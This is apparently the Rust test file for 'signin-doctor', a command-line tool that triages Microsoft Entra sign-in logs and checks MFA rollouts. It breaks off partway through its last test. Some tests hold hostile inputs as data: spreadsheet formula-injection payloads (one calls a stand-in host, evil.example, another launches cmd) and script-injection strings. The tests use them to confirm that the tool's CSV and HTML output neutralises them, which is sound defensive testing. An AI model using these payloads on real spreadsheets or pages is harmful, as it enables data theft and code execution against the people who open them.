//! Batch triage: every failed attempt, the cross-record facts, the rollout
//! checks, bad records, and output that is safe in spreadsheets and browsers.

use assert_cmd::Command;
use std::path::{Path, PathBuf};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn run_in(dir: &Path, args: &[&str]) -> (i32, String, String) {
    let o = Command::cargo_bin("signin-doctor").unwrap().current_dir(dir).args(args).output().unwrap();
    (o.status.code().unwrap_or(-1), String::from_utf8_lossy(&o.stdout).into(), String::from_utf8_lossy(&o.stderr).into())
}

fn jsonl(out: &str) -> Vec<serde_json::Value> {
    out.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

/// Generate a small realistic export with the example generator's logic, deterministic.
fn generated(dir: &Path, n: usize, array: bool) -> (PathBuf, PathBuf) {
    let s = dir.join(if array { "s.json" } else { "s.jsonl" });
    let a = dir.join("a.jsonl");
    let st = std::process::Command::new(env!("CARGO"))
        .args(["run", "-q", "--example", "generate", "--", "--records", &n.to_string(), "--out", s.to_str().unwrap(), "--audit-out", a.to_str().unwrap()])
        .args(if array { vec!["--format", "array"] } else { vec![] })
        .current_dir(root())
        .status()
        .unwrap();
    assert!(st.success());
    (s, a)
}

#[test]
fn every_failed_attempt_is_diagnosed_once_in_file_order() {
    let (code, out, err) = run_in(
        &root(),
        &[
            "triage",
            "--signins",
            "tests/fixtures/mfa-outage/signin.json",
            "tests/fixtures/password-spray/signin.json",
            "tests/fixtures/break-glass/signin.json",
            "--org",
            "examples/org.ron",
            "--format",
            "json",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let rows = jsonl(&out);
    // 4 MFA failures + 6 spray failures + 1 failed break-glass sign-in (its success is not a failure).
    assert_eq!(rows.len(), 11, "{out}");
    for r in &rows {
        for k in ["id", "correlation_id", "user", "time", "diagnosis", "needs_answer"] {
            assert!(r.get(k).is_some(), "missing {k} in {r}");
        }
        assert!(r["diagnosis"]["provisional"].is_boolean());
    }
    assert!(rows[..4].iter().all(|r| r["diagnosis"]["id"] == "mfa-service-problem"), "four users failing MFA in one hour, none passing");
    assert!(rows[4..10].iter().all(|r| r["diagnosis"]["id"] == "password-spray"), "password spray from one IP, and no password was right");
    assert!(rows.iter().all(|r| r["diagnosis"]["confidence"] == "data"), "the data settled every one");
    assert!(rows[10]["diagnosis"]["changes_credentials"] == false && rows[0]["diagnosis"]["changes_credentials"] == false);
    assert_eq!(rows[10]["diagnosis"]["id"], "break-glass-sign-in");
    assert!(err.contains("Rollout checks:"), "the summary goes to stderr with --format json");
}

#[test]
fn open_questions_give_a_provisional_diagnosis() {
    let (_, out, _) = run_in(&root(), &["triage", "--signins", "examples/stale-authenticator/signin.json", "--audit", "examples/stale-authenticator/audit.json", "--format", "json"]);
    let rows = jsonl(&out);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["needs_answer"]["id"], "prompt-seen");
    assert_eq!(rows[0]["diagnosis"]["provisional"], true);
    assert_eq!(rows[0]["diagnosis"]["confidence"], "provisional");
    // Don't know all the way: nothing says the phone is new, so triage
    // proposes no credential change: an agent calls the user.
    assert_eq!(rows[0]["diagnosis"]["id"], "mfa-not-completed");
    assert_eq!(rows[0]["diagnosis"]["changes_credentials"], false);
}

#[test]
fn text_summary_and_rollout_checks() {
    let dir = tempfile::tempdir().unwrap();
    let (s, a) = generated(dir.path(), 3000, false);
    let (code, out, err) = run_in(&root(), &["triage", "--signins", s.to_str().unwrap(), "--audit", a.to_str().unwrap(), "--org", "examples/org.ron"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("Triage of 3000 sign-in records:"), "{out}");
    for part in [
        "Failures settled by the data:",
        "Not failures (expected interrupts, background refreshes, successes; severity info):",
        "Provisional until an agent asks",
        "mfa-not-completed",
        "[verify the caller first]",
        "Users most affected:",
        "Rollout checks:",
        "[FAIL] No legacy authentication:",
        "[FAIL] No single-factor success where MFA should apply",
        "Every user able to register",
    ] {
        assert!(out.contains(part), "the summary lacks {part}:\n{out}");
    }
    // A rollout's generated mix: the largest settled groups are user and
    // rollout problems, not attacks (the spray and fatigue facts must not over-fire).
    let settled: Vec<&str> = out.split("Failures settled by the data:\n").nth(1).unwrap().lines().take_while(|l| !l.is_empty()).collect();
    let top: Vec<&str> = settled.iter().take(3).map(|l| l.split_whitespace().nth(1).unwrap()).collect();
    assert!(!top.contains(&"possible-compromise") && !top.contains(&"password-spray"), "{out}");
    // An expected interrupt is no failure: it is listed apart.
    assert!(!settled.iter().any(|l| l.contains("benign-interrupt")), "{out}");
    let benign = out.split("severity info):\n").nth(1).unwrap().lines().take_while(|l| !l.is_empty()).collect::<Vec<_>>();
    assert!(benign.iter().any(|l| l.contains("benign-interrupt")), "{out}");
    // Same data as an array: the same results.
    let (s2, _) = generated(dir.path(), 3000, true);
    let (_, a1, _) = run_in(&root(), &["triage", "--signins", s.to_str().unwrap(), "--format", "json", "--threads", "1"]);
    let (_, a2, _) = run_in(&root(), &["triage", "--signins", s2.to_str().unwrap(), "--format", "json", "--threads", "2"]);
    let strip = |o: &str| {
        o.lines()
            .map(|l| {
                let mut v: serde_json::Value = serde_json::from_str(l).unwrap();
                v["record"] = serde_json::Value::Null;
                v.to_string()
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(strip(&a1), strip(&a2), "JSON Lines and array, 1 and 2 threads, give the same results");
    // And the same rollout checks, with every user and value they list.
    let checks = |threads: &str| {
        let out = dir.path().join(format!("checks-{threads}"));
        let (code, _, err) =
            run_in(&root(), &["triage", "--signins", s.to_str().unwrap(), "--org", "examples/org.ron", "--format", "json", "--checks-out", out.to_str().unwrap(), "--threads", threads]);
        assert!(code == 0 || code == 8, "{err}");
        std::fs::read_to_string(out.join("checks.json")).unwrap()
    };
    let one = checks("1");
    assert!(one.contains("legacy-authentication"), "{one}");
    assert_eq!(one, checks("2"), "the rollout checks differ between 1 and 2 threads");
}

#[test]
fn bad_records_are_counted_and_listed_and_strict_stops() {
    let dir = tempfile::tempdir().unwrap();
    let good = std::fs::read_to_string(root().join("tests/fixtures/lockout/signin.json")).unwrap();
    let v: serde_json::Value = serde_json::from_str(&good).unwrap();
    let rec = v["value"][0].to_string();
    let text = format!("{rec}\n{{\"id\":\"x\",\"createdDateTime\":\"yesterday\",\"status\":{{\"errorCode\":1}}}}\n{{\"hello\":1}}\n{rec}\n");
    std::fs::write(dir.path().join("s.jsonl"), text).unwrap();
    let (code, out, _) = run_in(dir.path(), &["triage", "--signins", "s.jsonl"]);
    assert_eq!(code, 0);
    assert!(out.contains("2 bad records were skipped:"), "{out}");
    assert!(out.contains("s.jsonl:2: record 2: cannot read this sign-in: \"yesterday\" is not a date"), "{out}");
    assert!(out.contains("s.jsonl:3: record 3: this object has none of the fields of a sign-in"), "{out}");
    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--strict"]);
    assert_eq!(code, 4);
    assert!(err.contains("s.jsonl:2:1: record 2:"), "{err}");
    // A broken file structure is an error, not a bad record.
    std::fs::write(dir.path().join("t.json"), format!("[{rec},")).unwrap();
    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "t.json"]);
    assert_eq!(code, 4);
    assert!(err.contains("t.json:1:1: malformed JSON: the file ends in the middle of a JSON value"), "{err}");
    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "missing.json"]);
    assert_eq!(code, 4);
    assert!(err.contains("missing.json: cannot read the file: no such file"));
}

#[test]
fn a_record_that_fails_only_its_full_decode_is_reported_in_order_and_strict_stops_there() {
    // Pass 1 reads a dozen fields and passes this record; pass 2 decodes it
    // in full and fails. 100 attempts span several of pass 2's work units.
    let dir = tempfile::tempdir().unwrap();
    let good = std::fs::read_to_string(root().join("tests/fixtures/lockout/signin.json")).unwrap();
    let v: serde_json::Value = serde_json::from_str(&good).unwrap();
    let lines: Vec<String> = (1..=100)
        .map(|i| {
            let mut r = v["value"][0].clone();
            r["correlationId"] = format!("corr-{i:03}").into();
            r["id"] = format!("id-{i:03}").into();
            if i == 70 {
                r["appliedConditionalAccessPolicies"] = 42.into();
            }
            r.to_string()
        })
        .collect();
    std::fs::write(dir.path().join("s.jsonl"), lines.join("\n")).unwrap();
    let ids = |out: &str| jsonl(out).iter().map(|r| r["id"].as_str().unwrap().to_string()).collect::<Vec<_>>();
    let want = |range: std::ops::RangeInclusive<usize>| range.filter(|i| *i != 70).map(|i| format!("id-{i:03}")).collect::<Vec<_>>();

    let (code, out, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--format", "json", "--threads", "2"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(ids(&out), want(1..=100), "every other attempt, in file order");
    assert!(err.contains("s.jsonl:70: record 70: cannot read this sign-in: invalid type: integer `42`"), "{err}");

    let (code, out, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--format", "json", "--threads", "2", "--strict"]);
    assert_eq!(code, 4);
    assert_eq!(ids(&out), want(1..=69), "the attempts before the bad record, and none after");
    assert!(err.contains("s.jsonl:70:1: record 70: cannot read this sign-in"), "{err}");
}

#[test]
fn csv_cells_cannot_run_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let evil = r#"{"id":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","createdDateTime":"2026-11-20T09:00:00Z","correlationId":"+cmd|' /C calc'!A0","userPrincipalName":"@SUM(1+1)*cmd|' /C calc'!A0","appDisplayName":"-2+3","status":{"errorCode":50126}}"#;
    std::fs::write(dir.path().join("s.json"), evil).unwrap();
    let (code, out, _) = run_in(dir.path(), &["triage", "--signins", "s.json", "--format", "csv"]);
    assert_eq!(code, 0);
    let mut r = csv::Reader::from_reader(out.as_bytes());
    let headers = r.headers().unwrap().clone();
    assert_eq!(&headers[0], "id");
    let row = r.records().next().unwrap().unwrap();
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "a cell a spreadsheet would run: {cell}");
    }
    assert_eq!(&row[0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    assert_eq!(&row[5], "'-2+3");
}

#[test]
fn the_html_report_is_self_contained_and_escapes_log_text() {
    let dir = tempfile::tempdir().unwrap();
    let evil = r#"{"id":"a","createdDateTime":"2026-11-20T09:00:00Z","correlationId":"c","userPrincipalName":"<script>alert(1)</script>@contoso.com","clientAppUsed":"IMAP4<img src=x onerror=alert(2)>","status":{"errorCode":50126}}"#;
    std::fs::write(dir.path().join("s.json"), evil).unwrap();
    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "s.json", "--report", "r.html"]);
    assert_eq!(code, 0, "{err}");
    let html = std::fs::read_to_string(dir.path().join("r.html")).unwrap();
    assert!(!html.contains("<script") && !html.contains("<img"), "unescaped log text in the report");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;@contoso.com"));
    for loads in [" src=", "href=", "<link", "url(", "@import", "<script"] {
        assert!(!html.contains(loads), "the page must load nothing, but has {loads}");
    }
    assert!(html.contains("<svg") && html.contains("Failed attempts per hour"));
}

#[test]
fn a_passing_break_glass_check_does_not_ask_to_confirm_sign_ins_that_did_not_happen() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("s.jsonl");
    std::fs::write(
        &log,
        r#"{"id":"r1","createdDateTime":"2026-11-20T09:00:00Z","userPrincipalName":"ann@contoso.com","userId":"u1","correlationId":"c1","status":{"errorCode":50126},"clientAppUsed":"Browser"}"#,
    )
    .unwrap();
    let out = assert_cmd::Command::cargo_bin("signin-doctor").unwrap().args(["triage", "--org", "examples/org.ron", "--signins"]).arg(&log).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("[PASS] Every break-glass sign-in accounted for: no sign-ins to the break-glass accounts"), "{text}");
    assert!(!text.contains("planned test"), "{text}");
}

// ---- logs as they lie on disk --------------------------------------------------------------

fn gz(path: &Path, text: &str) {
    use std::io::Write;
    let mut z = flate2::write::GzEncoder::new(std::fs::File::create(path).unwrap(), flate2::Compression::fast());
    z.write_all(text.as_bytes()).unwrap();
    z.finish().unwrap();
}

/// The example's records as JSON Lines, each wrapped as Azure Monitor writes it to a storage account.
fn example_lines(file: &str, category: Option<&str>) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(root().join("examples/stale-authenticator").join(file)).unwrap()).unwrap();
    v["value"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| match category {
            None => r.to_string(),
            Some(c) => serde_json::json!({"time": r["createdDateTime"].as_str().or(r["activityDateTime"].as_str()), "category": c, "operationName": "Sign-in activity", "correlationId": r["correlationId"], "properties": r}).to_string(),
        })
        .collect()
}

/// What triage says of each failed attempt, without where the records were read.
fn verdicts(out: &str) -> Vec<(String, String, String)> {
    jsonl(out).iter().map(|r| (r["correlation_id"].to_string(), r["diagnosis"]["id"].to_string(), r["needs_answer"]["id"].to_string())).collect()
}

#[test]
fn a_storage_account_container_of_plain_and_gzipped_blobs_triages_as_the_files_do() {
    let dir = tempfile::tempdir().unwrap();
    let signins = example_lines("signin.json", Some("SignInLogs"));
    let audit = example_lines("audit.json", Some("AuditLogs"));
    let hour = |cat: &str, h: u32| dir.path().join(format!("c/insights-logs-{cat}/resourceId=/TENANTS/X/PROVIDERS/MICROSOFT.AADIAM/y=2026/m=11/d=20/h={h:02}/m=00"));
    for (cat, h) in [("signinlogs", 9), ("signinlogs", 10), ("auditlogs", 9)] {
        std::fs::create_dir_all(hour(cat, h)).unwrap();
    }
    std::fs::write(hour("signinlogs", 9).join("PT1H.json"), signins[..2].join("\n") + "\n").unwrap();
    gz(&hour("signinlogs", 10).join("PT1H.json.gz"), &(signins[2..].join("\n") + "\n"));
    std::fs::write(hour("auditlogs", 9).join("PT1H.json"), audit.join("\n") + "\n").unwrap();
    let ex = root().join("examples/stale-authenticator");
    let (code, plain, err) = run_in(&root(), &["triage", "--signins", ex.join("signin.json").to_str().unwrap(), "--audit", ex.join("audit.json").to_str().unwrap(), "--format", "json"]);
    assert_eq!(code, 0, "{err}");
    let (code, out, err) = run_in(dir.path(), &["triage", "--signins", "c", "--format", "json"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(verdicts(&out), verdicts(&plain), "the container triages as the files do, its audit folder read as the audit log");
    assert!(!verdicts(&out).is_empty());
    let rows = jsonl(&out);
    assert!(rows.iter().all(|r| r["record"].as_str().unwrap().contains("insights-logs-signinlogs")), "records are named by the blobs: {out}");
}

#[test]
fn a_pipe_and_a_gzip_file_triage_as_the_file_does() {
    let dir = tempfile::tempdir().unwrap();
    let lines = example_lines("signin.json", None).join("\n") + "\n";
    std::fs::write(dir.path().join("s.jsonl"), &lines).unwrap();
    gz(&dir.path().join("s.jsonl.gz"), &lines);
    std::fs::copy(dir.path().join("s.jsonl.gz"), dir.path().join("no-suffix")).unwrap();
    let (code, plain, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--format", "json"]);
    assert_eq!(code, 0, "{err}");
    for name in ["s.jsonl.gz", "no-suffix"] {
        let (code, out, err) = run_in(dir.path(), &["triage", "--signins", name, "--format", "json"]);
        assert_eq!(code, 0, "{name}: {err}");
        assert_eq!(verdicts(&out), verdicts(&plain), "{name}");
        assert!(jsonl(&out)[0]["record"].as_str().unwrap().starts_with(&format!("{name}#")), "named as given: {out}");
    }
    let o = Command::cargo_bin("signin-doctor").unwrap().current_dir(dir.path()).args(["triage", "--signins", "-", "--format", "json"]).write_stdin(lines.clone()).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(verdicts(&out), verdicts(&plain), "standard input");
    assert!(jsonl(&out)[0]["record"].as_str().unwrap().starts_with("standard input#"), "{out}");
    // diagnose reads gzip as it comes.
    let (code, out, err) = run_in(dir.path(), &["diagnose", "--signin", "s.jsonl.gz", "--format", "json"]);
    assert_eq!(code, 3, "{err}");
    assert_eq!(serde_json::from_str::<serde_json::Value>(&out).unwrap()["needs_answer"]["question"]["id"], "prompt-seen");
    // A corrupt gzip file is named, not a crash.
    std::fs::write(dir.path().join("bad.gz"), [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3]).unwrap();
    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "bad.gz"]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("bad.gz: cannot decompress it (gzip)"), "{err}");
}

/// `--fail-on` gives a scheduled job an exit code to alert on; without it, 0.
#[test]
fn fail_on_exits_as_documented() {
    let f = |name: &str| root().join("tests/fixtures").join(name).join("signin.json").display().to_string();
    let org = root().join("examples/org.ron").display().to_string();
    let code = |file: &str, extra: &[&str]| {
        let mut args = vec!["triage", "--signins", file, "--org", org.as_str()];
        args.extend(extra);
        run_in(&root(), &args).0
    };
    let (bg, legacy, stale) = (f("break-glass"), f("legacy"), root().join("examples/stale-authenticator/signin.json").display().to_string());
    // A break-glass sign-in: critical (9) and its check failed (8).
    assert_eq!(code(&bg, &[]), 0);
    assert_eq!(code(&bg, &["--fail-on", "compromise"]), 9);
    assert_eq!(code(&bg, &["--fail-on", "checks"]), 8);
    assert_eq!(code(&bg, &["--fail-on", "any"]), 9, "a critical diagnosis goes first");
    // Legacy authentication: a failed check, nothing critical.
    assert_eq!(code(&legacy, &["--fail-on", "compromise"]), 0);
    assert_eq!(code(&legacy, &["--fail-on", "any"]), 8);
    // A stale Authenticator registration: nothing to alert on.
    assert_eq!(code(&stale, &["--fail-on", "any"]), 0);
}

/// Each rollout check lists who, not only how many: every break-glass
/// sign-in (past the report's 100 rows too), each legacy-authentication
/// user with the client and system, as spreadsheet-safe CSVs and JSON.
#[test]
fn checks_out_lists_every_subject_of_each_check() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("org.ron"), "(break_glass_accounts: [\"bg@contoso.com\"], trusted_countries: [\"GB\"])").unwrap();
    let mut lines = String::new();
    for i in 0..150 {
        let rec = serde_json::json!({"id": format!("bg-{i}"), "createdDateTime": format!("2026-11-{:02}T09:{:02}:00Z", 1 + i / 60, i % 60), "userPrincipalName": "bg@contoso.com", "correlationId": format!("c-{i}"), "ipAddress": "203.0.113.9", "status": {"errorCode": 0}, "appDisplayName": "Azure Portal"});
        lines.push_str(&rec.to_string());
        lines.push('\n');
    }
    for (i, client) in ["IMAP4", "Exchange ActiveSync", "IMAP4"].iter().enumerate() {
        let rec = serde_json::json!({"id": format!("lg-{i}"), "createdDateTime": format!("2026-11-20T10:0{i}:00Z"), "userPrincipalName": "=cmd|' /C calc'!A0@contoso.com", "correlationId": format!("l-{i}"), "clientAppUsed": client, "deviceDetail": {"operatingSystem": "Android"}, "status": {"errorCode": 50126}});
        lines.push_str(&rec.to_string());
        lines.push('\n');
    }
    // Single-factor successes: the policies that applied, from Graph's array and from Log Analytics' JSON text.
    let policies = serde_json::json!([
        {"displayName": "Block legacy auth", "result": "notApplied"},
        {"displayName": "Require MFA (pilot)", "result": "reportOnlyFailure"},
        {"displayName": "Terms of use", "result": "success"},
        {"displayName": "Old policy", "result": "reportOnlyNotApplied"}
    ]);
    for (i, ca) in [policies.clone(), serde_json::Value::String(policies.to_string()), serde_json::json!([])].iter().enumerate() {
        let user = if i < 2 { "sf@contoso.com" } else { "none@contoso.com" };
        let rec = serde_json::json!({"id": format!("sf-{i}"), "createdDateTime": format!("2026-11-21T10:0{i}:00Z"), "userPrincipalName": user, "correlationId": format!("s-{i}"), "clientAppUsed": "Browser", "appDisplayName": "Azure Portal", "isInteractive": true, "authenticationRequirement": "singleFactorAuthentication", "status": {"errorCode": 0}, "appliedConditionalAccessPolicies": ca});
        lines.push_str(&rec.to_string());
        lines.push('\n');
    }
    std::fs::write(dir.path().join("s.jsonl"), lines).unwrap();
    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--org", "org.ron", "--checks-out", "checks", "--report", "r.html", "--fail-on", "checks"]);
    assert_eq!(code, 8, "{err}");
    let bg = std::fs::read_to_string(dir.path().join("checks/break-glass.csv")).unwrap();
    assert!(bg.starts_with("\u{feff}account,time_utc,ip_address,country,result,app\n"), "{bg}");
    assert_eq!(bg.lines().count(), 151, "every break-glass sign-in, not the first 100");
    assert!(bg.contains("bg@contoso.com,2026-11-01 09:00:00,203.0.113.9,,success,Azure Portal"), "times as spreadsheets read them: {bg}");
    let legacy = std::fs::read_to_string(dir.path().join("checks/legacy-authentication.csv")).unwrap();
    let row = legacy.lines().nth(1).unwrap();
    assert!(row.starts_with("'=cmd|"), "a formula in a user name is made inert: {row}");
    assert!(row.contains(",3,2026-11-20 10:02:00,Exchange ActiveSync; IMAP4,Android"), "{row}");
    let sf = std::fs::read_to_string(dir.path().join("checks/single-factor.csv")).unwrap();
    assert!(sf.starts_with("\u{feff}user,sign_ins,last_seen_utc,apps,client_apps,conditional_access_applied\n"), "{sf}");
    assert!(sf.contains("sf@contoso.com,2,2026-11-21 10:01:00,Azure Portal,Browser,Require MFA (pilot) (reportOnlyFailure); Terms of use\n"), "{sf}");
    assert!(sf.contains("none@contoso.com,1,2026-11-21 10:02:00,Azure Portal,Browser,(none applied)"), "{sf}");
    let json: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(dir.path().join("checks/checks.json")).unwrap()).unwrap();
    let bgj = json.as_array().unwrap().iter().find(|c| c["id"] == "break-glass").unwrap();
    assert_eq!((bgj["status"].as_str(), bgj["count"].as_u64(), bgj["subjects"].as_array().unwrap().len()), (Some("fail"), Some(150), 150));
    assert_eq!(bgj["subjects"][0]["account"], "bg@contoso.com");
    let html = std::fs::read_to_string(dir.path().join("r.html")).unwrap();
    assert!(html.contains("The first 100 of 150 rows"), "the report says where the rest are");
}

/// A month of hourly blobs is more files than a process may hold open at
/// once (1024 by default): the second pass opens them as it needs them.
#[test]
fn more_files_than_open_file_handles_triage_whole() {
    let dir = tempfile::tempdir().unwrap();
    let n = 1100;
    for i in 0..n {
        let folder = dir.path().join(format!("insights-logs-signinlogs/y=2026/m=11/d={:02}/h={:02}/m=00", 1 + i / 24 % 28, i % 24));
        std::fs::create_dir_all(&folder).unwrap();
        let rec = serde_json::json!({"time": "2026-11-20T09:00:00Z", "category": "SignInLogs", "operationName": "Sign-in activity", "properties": {"id": format!("r-{i}"), "createdDateTime": format!("2026-11-{:02}T{:02}:{:02}:00Z", 1 + i / 24 % 28, i % 24, i % 60), "userPrincipalName": format!("u{}@contoso.com", i % 50), "correlationId": format!("c-{i}"), "ipAddress": "203.0.113.9", "status": {"errorCode": 50126}}});
        std::fs::write(folder.join(format!("PT1H-{i}.json")), format!("{rec}\n")).unwrap();
    }
    // Under a limit of 256 open files, whatever this machine's default.
    let bin = assert_cmd::cargo::cargo_bin("signin-doctor");
    let o = std::process::Command::new("sh").arg("-c").arg(format!("ulimit -n 256 && exec '{}' triage --signins . --format json", bin.display())).current_dir(dir.path()).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout).lines().count(), n, "every failed attempt of every blob");
}

#[test]
fn filters_select_attempts_and_the_window_selects_records() {
    let dir = tempfile::tempdir().unwrap();
    let (s, a) = generated(dir.path(), 3000, false);
    let (s, a) = (s.to_str().unwrap(), a.to_str().unwrap());
    let base = ["triage", "--signins", s, "--audit", a, "--org", "examples/org.ron", "--format", "json"];
    let with = |extra: &[&str]| {
        let (code, out, err) = run_in(&root(), &[&base[..], extra].concat());
        assert_eq!(code, 0, "{extra:?}: {err}");
        (jsonl(&out), err)
    };
    let (all, _) = with(&[]);
    assert!(all.len() > 100, "the generated export has failures to filter");
    let field = |r: &serde_json::Value, k: &str| r[k].as_str().unwrap_or("").to_string();

    // A user: exactly that user's attempts, diagnosed as in the whole run
    // (the history still covers everyone).
    let user = field(&all[all.len() / 2], "user");
    let (mine, err) = with(&["--user", &user.to_uppercase()]);
    let expected: Vec<&serde_json::Value> = all.iter().filter(|r| field(r, "user") == user).collect();
    assert_eq!(mine.len(), expected.len(), "{err}");
    assert!(mine.iter().zip(&expected).all(|(m, e)| m["id"] == e["id"] && m["diagnosis"]["id"] == e["diagnosis"]["id"]));
    assert!(err.contains(&format!("Filter: user {}: of the {} attempts without a success, {} selected", user.to_uppercase(), all.len(), mine.len())), "{err}");

    // An application (a part of its name, any case) and error codes.
    let app = field(&all[0], "app");
    let part = app.split_whitespace().last().unwrap().to_lowercase();
    let (apps, _) = with(&["--app", &part]);
    assert!(!apps.is_empty() && apps.iter().all(|r| field(r, "app").to_lowercase().contains(&part)));
    assert_eq!(apps.len(), all.iter().filter(|r| field(r, "app").to_lowercase().contains(&part)).count());
    let (codes, _) = with(&["--error-code", "50126,500121"]);
    assert!(!codes.is_empty() && codes.iter().all(|r| r["error_code"] == 50126 || r["error_code"] == 500121));
    assert_eq!(codes.len(), all.iter().filter(|r| r["error_code"] == 50126 || r["error_code"] == 500121).count());

    // A window: only records inside it count, everywhere.
    let mut times: Vec<String> = all.iter().map(|r| field(r, "time")).collect();
    times.sort();
    let (since, until) = (times[times.len() / 4].clone(), times[times.len() / 2].clone());
    let (window, err) = with(&["--since", &since, "--until", &until]);
    assert!(!window.is_empty() && window.len() < all.len());
    assert!(window.iter().all(|r| field(r, "time") >= since && field(r, "time") < until), "{err}");
    assert!(err.contains("records outside the time window were passed over"), "{err}");

    // A window the export does not reach: an error naming what it spans.
    let (code, _, err) = run_in(&root(), &[&base[..], &["--since", "2d"]].concat());
    assert_eq!(code, 4);
    assert!(err.contains("lies in the time window") && err.contains("they run from"), "{err}");
    let (code, _, err) = run_in(&root(), &[&base[..], &["--since", "2026-11-02", "--until", "2026-11-01"]].concat());
    assert_eq!(code, 2, "an empty window is a usage error: {err}");
    let (code, _, err) = run_in(&root(), &[&base[..], &["--since", "last tuesday"]].concat());
    assert_eq!(code, 2);
    assert!(err.contains("2d"), "the error shows the forms it takes: {err}");
}

#[test]
fn the_user_drill_down_lists_attempts_in_time_order_and_the_trend_spans_days() {
    let dir = tempfile::tempdir().unwrap();
    let (s, a) = generated(dir.path(), 3000, false);
    let (s, a) = (s.to_str().unwrap(), a.to_str().unwrap());
    let (_, out, _) = run_in(&root(), &["triage", "--signins", s, "--audit", a, "--format", "json"]);
    let all = jsonl(&out);
    // The user with most failed attempts.
    let mut counts: std::collections::BTreeMap<String, usize> = Default::default();
    for r in &all {
        *counts.entry(r["user"].as_str().unwrap().to_string()).or_default() += 1;
    }
    let (user, n) = counts.iter().max_by_key(|(_, n)| **n).unwrap();
    assert!(*n >= 2);
    let (code, text, err) = run_in(&root(), &["triage", "--signins", s, "--audit", a, "--user", user]);
    assert_eq!(code, 0, "{err}");
    let listed = text.split(&format!("Failed attempts of {user}, in time order (UTC):\n")).nth(1).unwrap_or_else(|| panic!("{text}"));
    let times: Vec<&str> = listed.lines().filter(|l| l.starts_with("  2")).map(|l| &l[2..21]).collect();
    assert_eq!(times.len(), *n, "{listed}");
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "time order: {times:?}");
    assert!(listed.contains("      → ") && listed.contains("      record "), "each attempt with its diagnosis and record: {listed}");

    // The generated rollout spans days: failures per day, gaps as 0.
    let (_, text, _) = run_in(&root(), &["triage", "--signins", s, "--audit", a]);
    let trend = text.split("Failed attempts per day (UTC), with each day's commonest diagnoses:\n").nth(1).unwrap_or_else(|| panic!("{text}"));
    let days: Vec<&str> = trend.lines().take_while(|l| l.starts_with("  2")).collect();
    assert!(days.len() >= 2, "{trend}");
    let total: usize = days.iter().map(|l| l.split_whitespace().nth(1).unwrap().parse::<usize>().unwrap()).sum();
    let failures = all.iter().filter(|r| !(r["diagnosis"]["severity"] == "info" && r["diagnosis"]["provisional"] == false)).count();
    assert!(failures < all.len(), "the generated rollout has interrupts to leave out");
    assert_eq!(total, failures, "every failed attempt on its day, interrupts apart");
}

const SAMPLES: &str = "../shared/data/entra-samples";

#[test]
fn a_lone_keep_me_signed_in_interrupt_is_not_a_failure() {
    let sample = format!("{SAMPLES}/MicrosoftDocs+entra-docs/azure-monitor_signinlogs_example_50140.json");
    let (code, out, err) = run_in(&root(), &["triage", "--signins", &sample]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("Triage of 1 sign-in records: 1 attempts, 0 failed; 1 more ended at an expected step"), "{out}");
    assert!(out.contains("benign-interrupt"), "{out}");
}

#[test]
fn an_audit_log_given_as_sign_ins_is_an_error_with_a_hint() {
    let audit = format!("{SAMPLES}/OTRF+Security-Datasets/GoldenSAMLADFSMailAccess_AADAuditEvents.json");
    let (code, out, err) = run_in(&root(), &["triage", "--signins", &audit]);
    assert_eq!(code, 4, "bad input, not an empty report whose checks pass: {out}");
    assert!(out.is_empty(), "{out}");
    assert!(err.contains("none of the 4 records is a sign-in") && err.contains("audit event") && err.contains("--audit"), "{err}");
    // Beside a real sign-in log it is listed and the run carries on.
    let (code, out, _) = run_in(&root(), &["triage", "--signins", "examples/stale-authenticator/signin.json", &audit]);
    assert_eq!(code, 0);
    assert!(out.contains("4 bad records were skipped"), "{out}");
}

#[test]
fn log_analytics_rows_are_not_called_graph_v1() {
    // A msticpy row (Log Analytics' SigninLogs) failed, once with its empty
    // AuthenticationDetails and once with the column left out by a query.
    let line = std::fs::read_to_string(root().join(format!("{SAMPLES}/microsoft+msticpy/aad_logons_SigninLogs.jsonl"))).unwrap();
    let mut row: serde_json::Value = serde_json::from_str(line.lines().next().unwrap()).unwrap();
    row["Status"] = serde_json::json!({"errorCode": 50126}).to_string().into();
    row["ResultType"] = "50126".into();
    let dir = tempfile::tempdir().unwrap();
    let empty = dir.path().join("empty.json");
    std::fs::write(&empty, row.to_string()).unwrap();
    row.as_object_mut().unwrap().remove("AuthenticationDetails");
